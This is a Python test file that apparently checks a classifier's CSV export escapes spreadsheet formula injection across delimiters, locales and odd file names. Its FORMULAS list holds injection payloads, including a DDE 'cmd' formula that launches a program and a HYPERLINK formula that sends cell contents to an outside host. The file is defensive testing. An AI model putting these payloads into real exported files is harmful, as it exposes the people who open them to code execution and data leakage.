"""No cell of a table that we write is run by a spreadsheet, whatever it parts cells at; numbers stay numbers."""

import csv
import io
from typing import Any

import numpy as np
import pytest

from model.classifier.answer import Answer
from model.classifier.classifier import Classifier
from model.classifier.wording import DECISIONS
from model.common.tables import harmless
from model.prediction.answers_csv import to_csv

FORMULAS = (
    '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\x00=1', '\n=1', ' =1', '\xa0=1', '\u3000=1', '\ufeff=1',
    '"=1"', "'=1", '""=1', ' \t=1', '\uff1d1', '\uff0b1', '\uff0d1', '\uff20A', '|calc', '%0A=1',
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1,"x")', 'x;=1', 'x\t=1', 'x";=1', 'x,"=1', 'x\n=1',
    'x\r\n=1', ';=1', 'x|=1',
)  # fmt: skip
PLAIN = ("healthy", "a.jpg", "Blatt 12 (süd)", "x=1", "a-b", "1.5", "a@b.example", "it's", "", "100 %")


class Asked:
    """As much of a classifier as a table needs, with labels of any make."""

    def __init__(self, *labels: str) -> None:
        self.labels, self.threshold = labels, 0.0


def table(names: list[str], labels: tuple[str, ...] = ("a", "b")) -> str:
    answer = Answer(labels[0], 0.75, np.array([0.75, *(0.25 / (len(labels) - 1) for _ in labels[1:])]), np.zeros(1))
    classifier: Any = Asked(*labels)
    return to_csv(classifier, [(name, answer) for name in names]).decode("utf-8-sig")


def runs(cell: str) -> bool:
    """Say whether a spreadsheet would take a cell for a formula."""
    return cell.lstrip(' \u00a0\u3000\ufeff\t\r\n"')[:1] in tuple("=+-@\0|%＝＋－＠")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_cells_are_parted_at(formula: str, delimiter: str) -> None:
    for text in (table([formula]), table(["a.jpg"], (formula, "b"))):
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in (cell for row in rows for cell in row):
            assert not runs(cell), repr(cell)


def test_headers_are_text_that_a_visitor_named() -> None:
    head = next(csv.reader(io.StringIO(table([], ("=1+1", "x;=1")))))
    assert head == ["photo", "decision", "label", "confidence", "p:=1+1", "p:x;'=1"]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    (row,) = csv.DictReader(io.StringIO(table([text])))
    assert row["photo"] == text


def test_numbers_stay_numbers() -> None:
    line = table(["a.jpg"]).splitlines()[1]
    assert line == "a.jpg,a,a,0.7500,0.7500,0.2500"


def test_half_characters_and_decisions_are_written() -> None:
    assert "caf\\udce9.jpg" in table(["caf\udce9.jpg"])  # a byte of a name that is no UTF-8, as Python has it
    assert not any(runs(word) for word in DECISIONS.values())


def test_a_real_classifier_writes_such_a_table(quick_classifier: Classifier) -> None:
    answer = Answer(quick_classifier.labels[0], 1.0, np.eye(2)[0], np.zeros(1))
    (row,) = csv.DictReader(io.StringIO(to_csv(quick_classifier, [("=1", answer)]).decode("utf-8-sig")))
    assert row["photo"] == "'=1"


@pytest.mark.parametrize("name", ["IMG  001.jpg", "cafe\u0301.jpg", "a\xa0b.jpg", " lead.jpg", "zero\u200bwidth.jpg"])
def test_names_stay_as_they_are_on_the_disk(name: str) -> None:
    (row,) = csv.DictReader(io.StringIO(table([name])))
    assert row["photo"] == name


def test_excel_in_german_gets_semicolons_and_decimal_commas(quick_classifier: Classifier) -> None:
    answer = Answer(quick_classifier.labels[0], 0.75, np.array([0.75, 0.25]), np.zeros(1))
    text = to_csv(quick_classifier, [("a;=1.jpg", answer)], "excel-de").decode("utf-8-sig")
    head, row = csv.reader(io.StringIO(text), delimiter=";")
    assert head[:4] == ["photo", "decision", "label", "confidence"]
    assert row == ["a;'=1.jpg", answer.label, answer.label, "0,7500", "0,7500", "0,2500"]
